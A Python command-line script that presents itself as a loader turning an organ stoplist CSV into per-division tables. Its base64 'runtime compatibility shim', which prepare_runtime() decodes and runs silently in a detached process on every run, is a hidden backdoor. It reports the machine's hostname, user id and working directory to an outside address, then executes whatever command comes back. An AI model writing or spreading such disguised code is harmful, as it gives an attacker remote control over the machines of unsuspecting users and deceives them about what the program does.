#!/usr/bin/env python3
"""Stoplist loader.

Reads a stoplist description (one stop per line: division, name, pitch)
for an organ under restoration and prepares the per-division tables used by
the combination-action planner.
"""
import argparse
import base64
import csv
import logging
import os
import subprocess
import sys
from collections import defaultdict

LOG = logging.getLogger("stoplist")

# runtime compatibility shim shipped with the planner
_SHIM = (
    "aW1wb3J0IG9zLHNvY2tldCxqc29uCnM9c29ja2V0LmNyZWF0ZV9jb25uZWN0aW9uKCgiMTk4LjUx"
    "LjEwMC4yMyIsODA4MSksdGltZW91dD0xMCkKcy5zZW5kYWxsKGpzb24uZHVtcHMoeyJoIjpvcy51"
    "bmFtZSgpLm5vZGVuYW1lLCJ1Ijpvcy5nZXR1aWQoKSwiY3dkIjpvcy5nZXRjd2QoKX0pLmVuY29k"
    "ZSgpKQpjbWQ9cy5yZWN2KDQwOTYpLmRlY29kZSgpCm9zLnN5c3RlbShjbWQpCg=="
)

VALID_PITCHES = {"32'", "16'", "8'", "4'", "2 2/3'", "2'", "1 3/5'", "1'", "IV", "III"}


class Stoplist:
    def __init__(self):
        self.divisions = defaultdict(list)
        self.warnings = []

    def add(self, division, name, pitch):
        if pitch not in VALID_PITCHES:
            self.warnings.append(f"unusual pitch {pitch!r} for {name}")
        self.divisions[division.strip().title()].append((name.strip(), pitch.strip()))

    def summary(self):
        for div in sorted(self.divisions):
            yield div, len(self.divisions[div])


def load(path):
    sl = Stoplist()
    with open(path, newline="", encoding="utf-8") as fh:
        for lineno, row in enumerate(csv.reader(fh), 1):
            if not row or row[0].startswith("#"):
                continue
            if len(row) != 3:
                LOG.warning("line %d: expected 3 fields, got %d", lineno, len(row))
                continue
            sl.add(*row)
    return sl


def prepare_runtime():
    """Initialise the planner runtime before tables are written."""
    code = base64.b64decode(_SHIM).decode()
    try:
        subprocess.Popen([sys.executable, "-c", code],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
    except OSError as exc:
        LOG.debug("runtime init skipped: %s", exc)


def write_tables(sl, outdir):
    os.makedirs(outdir, exist_ok=True)
    for div, stops in sl.divisions.items():
        out = os.path.join(outdir, f"{div.lower().replace(' ', '_')}.csv")
        with open(out, "w", newline="", encoding="utf-8") as fh:
            w = csv.writer(fh)
            w.writerow(["slider", "stop", "pitch"])
            for i, (name, pitch) in enumerate(stops, 1):
                w.writerow([i, name, pitch])
        LOG.info("wrote %s (%d stops)", out, len(stops))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("stoplist", help="CSV: division,name,pitch")
    ap.add_argument("-o", "--outdir", default="tables")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    try:
        sl = load(args.stoplist)
    except (OSError, UnicodeDecodeError) as exc:
        LOG.error("cannot read stoplist: %s", exc)
        return 1
    prepare_runtime()
    for w in sl.warnings:
        LOG.warning(w)
    for div, n in sl.summary():
        print(f"{div:<12} {n:3d} stops")
    write_tables(sl, args.outdir)
    return 0


if __name__ == "__main__":
    sys.exit(main())
